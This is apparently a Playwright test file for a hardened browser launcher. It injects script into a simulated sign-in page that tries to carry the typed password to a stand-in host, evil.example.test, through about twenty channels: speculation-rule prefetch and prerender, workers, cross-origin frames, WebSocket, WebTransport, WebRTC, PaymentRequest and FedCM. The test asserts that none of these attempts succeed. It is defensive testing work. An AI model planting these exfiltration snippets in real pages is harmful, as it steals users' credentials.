/**
 * The ways out of a sign-in page that are no request of its own: speculation, workers, sockets, frames and windows of strangers, payment, accounts elsewhere.
 */
import { createSocket, type Socket } from 'node:dgram';
import { expect, test } from '@playwright/test';
import { findBrowser, launchBrowser } from '../../probes/browser/browser';
import { goodPassword, signInAbroad } from '../../probes/testing/foreign/foreign-world';
import { signInPages } from '../../probes/testing/foreign/sign-in-pages';
import { html, type Reply } from '../../probes/testing/foreign/virtual-hosts';

/**
 * What the page of the STS does with the password `p` (written for addresses) when its form is submitted.
 * E is the stranger's origin, U a UDP port of this machine.
 */
const ways: Readonly<Record<string, string>> = {
  'speculation rules: prefetch': "rules({ prefetch: [{ source: 'list', urls: ['E/prefetch?p=' + p], eagerness: 'immediate' }] })",
  'speculation rules: prerender': "rules({ prerender: [{ source: 'list', urls: ['E/prerender?p=' + p], eagerness: 'immediate' }] })",
  'speculation rules: until script': "rules({ prerender_until_script: [{ source: 'list', urls: ['E/until?p=' + p], eagerness: 'immediate' }] })",
  'speculation rules: every link':
    "add('a', { href: 'E/link?p=' + p, textContent: 'x' }); rules({ prefetch: [{ source: 'document', eagerness: 'immediate' }] })",
  'link rel=prerender': "add('link', { rel: 'prerender', href: 'E/old-prerender?p=' + p })",
  'link rel=preconnect': "add('link', { rel: 'preconnect', href: 'https://' + tag + '.E-HOST' })",
  'link rel=dns-prefetch': "add('link', { rel: 'dns-prefetch', href: 'https://' + tag + '.E-HOST' })",
  'a worker with a file of its own': "new Worker('/worker.js').postMessage(p)",
  'a module worker': "new Worker('/worker.js', { type: 'module' }).postMessage(p)",
  'a shared worker': "new SharedWorker('/worker.js').port.postMessage(p)",
  'a frame of a stranger': "const f = add('iframe', { src: 'E/stranger' }); f.onload = () => f.contentWindow.postMessage(p, '*')",
  'a nameless frame of a stranger':
    "const f = add('iframe', { src: 'E/stranger', referrerPolicy: 'no-referrer' }); f.onload = () => f.contentWindow.postMessage(p, '*')",
  'a sandboxed frame':
    "add('iframe', { sandbox: 'allow-scripts', srcdoc: '<script>new WebSocket(\"' + 'E'.replace('https', 'wss') + '/sandbox?p=' + p + '\")</' + 'script>' })",
  'a window of a stranger': "const w = open('E/stranger'); setInterval(() => w.postMessage(p, '*'), 10)",
  WebTransport: "new WebTransport('https://127.0.0.1:U/?p=' + p)",
  'WebTransport of a worker': "new Worker('data:text/javascript,' + encodeURIComponent('new WebTransport(\"https://127.0.0.1:U/?p=' + p + '\")'))",
  WebRTC:
    "const r = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:U' }] }); r.createDataChannel(p); " +
    'r.createOffer().then((o) => r.setLocalDescription(o))',
  'a payment method':
    "new PaymentRequest([{ supportedMethods: 'E/pay?p=' + p }], { total: { label: 'a', amount: { currency: 'USD', value: '1' } } }).canMakePayment()",
  'an account elsewhere (FedCM)': "navigator.credentials.get({ identity: { providers: [{ configURL: 'E/accounts?p=' + p, clientId: '1' }] } }).catch(() => 0)",
};

const sending = (origin: string): string =>
  `const send = (p) => { try { new WebSocket('${origin.replace('https', 'wss')}/socket?p=' + p) } catch { } try { new ` +
  `WebTransport('${origin}/wt?p=' + p) } catch { } };`;

const page =
  (origin: string, udpPort: number) =>
  (view: Parameters<typeof signInPages.plain>[0]): Reply => {
    const attempts = Object.values(ways)
      .map((code) => `try { ${code} } catch { }`)
      .join('\n')
      .replaceAll('.E-HOST', `.${new URL(origin).host}`)
      .replaceAll("'E'", `'${origin}'`)
      .replaceAll('E/', `${origin}/`)
      .replaceAll(':U', `:${udpPort}`);
    const script = `const add = (name, what) => document.body.appendChild(Object.assign(document.createElement(name), what));
      const rules = (what) => add('script', { type: 'speculationrules', textContent: JSON.stringify(what) });
      document.forms[0].addEventListener('submit', (event) => {
        event.preventDefault();
        const p = encodeURIComponent(document.querySelector('[type=password]').value), \
tag = 'x' + [...p].map((c) => c.charCodeAt(0).toString(16)).join('').slice(0, 60);
        ${attempts.replace(/try \{/g, 'try { {').replace(/\} catch/g, '} } catch')}
      });`;
    return { body: (signInPages.plain(view).body ?? '').replace('</body>', `<script>${script}</script></body>`) };
  };

let udp: Socket;
let datagrams = 0;
test.beforeAll(async () => {
  udp = createSocket('udp4').on('message', () => (datagrams += 1));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
});
test.afterAll(() => void udp.close());

test('nothing that a browser asks for by itself, and no socket, worker, frame or window of a sign-in page, carries the password away', async () => {
  test.setTimeout(60_000);
  let origin = '';
  const world = await signInAbroad({
    deadlineMs: 12_000,
    before: (hosts) => {
      origin = hosts.origin('evil.example.test');
      hosts.put('evil.example.test', ({ url }) =>
        url.pathname === '/stranger'
          ? html('Stranger', `<script>${sending(origin)} onmessage = ({ data }) => send(data)</script>`)
          : { headers: { 'Access-Control-Allow-Origin': '*', 'Supports-Loading-Mode': 'credentialed-prerender' }, body: 'thanks' },
      );
    },
    idp: {
      page: (view) => page(origin, udp.address().port)(view),
      pages: {
        '/worker.js': () => ({
          headers: { 'Content-Type': 'text/javascript' },
          body: `${sending(origin)} onmessage = ({ data }) => send(data); onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => send(data) };`,
        }),
      },
    },
  });
  expect(world.journey.signedIn).not.toBe('yes');
  expect(world.journey.credentialSubmissions).toBe(1);
  const told = world.hosts.arrivals.filter(
    ({ host, raw }) => host.includes('evil') && (raw.includes(encodeURIComponent(goodPassword)) || host !== 'evil.example.test'),
  );
  test
    .info()
    .annotations.push(
      { type: 'threat', description: 'the STS page leaks by what the browser does by itself' },
      { type: 'attempts', description: String(Object.keys(ways).length) },
      { type: 'leaks', description: String(told.length + datagrams) },
    );
  expect(told.map(({ method, host, url }) => `${method} ${host}${url.pathname}`)).toEqual([]);
  expect(datagrams, 'datagrams to a stranger').toBe(0);
});

test('the browser is started with every feature Playwright asks for, since only the last list of a command line counts', async () => {
  const search = await findBrowser({ configured: null });
  if (!search.ok) throw new Error(search.why);
  const launched = await launchBrowser(search.choice, { spkis: [], authServerAllowlist: null });
  if (!launched.ok) throw new Error(launched.why);
  try {
    const { commandLine } = await (await launched.browser.newBrowserCDPSession()).send('SystemInfo.getInfo');
    for (const flag of ['--enable-features=', '--disable-features=', '--disable-blink-features=', '--js-flags=']) {
      const lists = [...commandLine.matchAll(new RegExp(`(?:^|\\s)${flag}(\\S+)`, 'g'))].map(([, list = '']) => list.split(','));
      expect(
        lists.flat().filter((feature) => feature !== '' && !lists.at(-1)?.includes(feature)),
        flag,
      ).toEqual([]);
    }
    expect(commandLine).toContain('prefetch_multiple_active_set_size_limit_for_base_value/0');
  } finally {
    await launched.browser.close();
    await launched.profile.remove();
  }
});
